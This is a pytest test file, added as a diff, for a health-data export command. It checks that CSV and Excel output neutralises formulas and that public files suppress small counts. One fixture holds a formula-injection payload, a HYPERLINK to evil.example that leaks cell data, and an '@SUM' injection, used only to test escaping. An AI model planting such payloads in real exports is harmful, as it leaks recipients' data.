@@ -1,0 +1,68 @@
+"""`carepath export`: the long format of a Fingertips data export, safe to open in a
+spreadsheet, and the public file passed through the one disclosure policy."""
+
+from __future__ import annotations
+
+import csv
+
+import openpyxl
+import pandas as pd
+import pytest
+from typer.testing import CliRunner
+
+from carepath.cli import app
+from carepath.engine.run import compute
+from carepath.indicators.export import export
+from carepath.indicators.library import builtin
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+@pytest.fixture
+def exported_ws(small_ws):
+    with small_ws.transaction() as con:
+        con.execute("UPDATE organisations SET name = ? WHERE org_code = 'L1'", [FORMULA])
+        con.execute("UPDATE organisations SET name = '@SUM(1+1)' WHERE org_code = 'P1'")
+    compute(small_ws, [builtin()[i] for i in ("early_stage_known", "usc_referral_isr")])
+    return small_ws
+
+
+@pytest.mark.parametrize("public", [False, True])
+def test_csv_and_excel_exports_never_carry_a_live_formula(exported_ws, tmp_path, public):
+    csv_path, xlsx_path = tmp_path / "v.csv", tmp_path / "v.xlsx"
+    export(exported_ws, csv_path, fmt="csv", public=public)
+    export(exported_ws, xlsx_path, fmt="xlsx", public=public)
+    with csv_path.open(encoding="utf-8") as fh:
+        names = {r["Area Name"] for r in csv.DictReader(fh)}
+    assert "'" + FORMULA in names and "'@SUM(1+1)" in names
+    assert not any(n.startswith(("=", "@")) for n in names)
+    sheet = openpyxl.load_workbook(xlsx_path).active
+    kinds = {c.data_type for r in sheet.iter_rows() for c in r}
+    assert "f" not in kinds  # no cell is a formula
+    cells = {c.value for r in sheet.iter_rows() for c in r}
+    assert "'" + FORMULA in cells
+
+
+def test_parquet_keeps_names_as_they_are(exported_ws, tmp_path):
+    export(exported_ws, tmp_path / "v.parquet", fmt="parquet")
+    assert FORMULA in set(pd.read_parquet(tmp_path / "v.parquet")["Area Name"])
+
+
+def test_public_export_is_disclosure_controlled_and_in_fingertips_columns(exported_ws,
+                                                                          tmp_path):
+    out = tmp_path / "p.csv"
+    result = CliRunner().invoke(app, ["export", "-w", str(exported_ws.path), "--format", "csv",
+                                      "--public", "--out", str(out)])
+    assert result.exit_code == 0, result.output
+    frame = pd.read_csv(out)
+    for column in ("Indicator ID", "Area Code", "Area Name", "Area Type", "Time period",
+                   "Value", "Lower CI 95.0 limit", "Upper CI 95.0 limit", "Count",
+                   "Denominator", "Value note"):
+        assert column in frame.columns
+    assert "definition_hash" not in frame.columns
+    local = frame[frame["Area Type"] != "national"]
+    counts = local["Count"].dropna()
+    assert not counts.between(1, 7).any() and (counts % 5 == 0).all()
+    # A suppressed row shows neither value nor count.
+    hidden = local[local["value_state"] == "suppressed"]
+    assert len(hidden) and hidden[["Value", "Count"]].isna().all().all()
